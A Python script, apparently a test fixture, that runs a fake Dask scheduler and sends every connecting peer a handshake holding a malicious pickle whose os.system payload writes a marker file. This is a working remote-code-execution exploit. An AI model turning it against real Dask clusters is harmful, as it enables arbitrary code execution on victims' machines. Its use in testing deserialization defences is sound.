"""A scheduler an attacker (uid 65534) starts, and the scheduler file it writes for it: every
peer that connects is sent a Dask handshake carrying a pickle whose ``os.system`` payload
writes a file (what a victim's worker or client unpickles if it reads that handshake).

    python fake_scheduler.py tcp|tls|ws SCHEDULER_FILE MARKER

``tls``: with a certificate of the attacker's own (``Security.temporary()``), not signed by
the victim's CA. Serves until killed; prints one JSON line per connection it saw.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys

from distributed.comm import core, listen
from distributed.protocol import ToPickle
from distributed.security import Security

scheme, scheduler_file, marker = sys.argv[1:4]


class Evil:
    def __reduce__(self):
        return (os.system, (f"id > {marker}",))


honest = core.Comm.handshake_info
core.Comm.handshake_info = lambda self: {**honest(self), "x": ToPickle(Evil())}


async def handle(comm) -> None:
    print(json.dumps({"connected": str(comm.peer_address)}), flush=True)
    await asyncio.sleep(5)
    comm.abort()


async def main() -> None:
    args = Security.temporary().get_listen_args("scheduler") if scheme == "tls" else {}
    listener = listen(f"{scheme}://127.0.0.1:0", handle, **args)
    await listener.start()
    tmp = scheduler_file + ".tmp"
    with open(tmp, "w") as fh:
        json.dump({"type": "Scheduler", "id": "Scheduler-fake", "address":
                   listener.contact_address, "services": {}, "started": 0, "workers": {}}, fh)
    os.replace(tmp, scheduler_file)
    print(json.dumps({"listening": listener.contact_address}), flush=True)
    await asyncio.Event().wait()


asyncio.run(main())
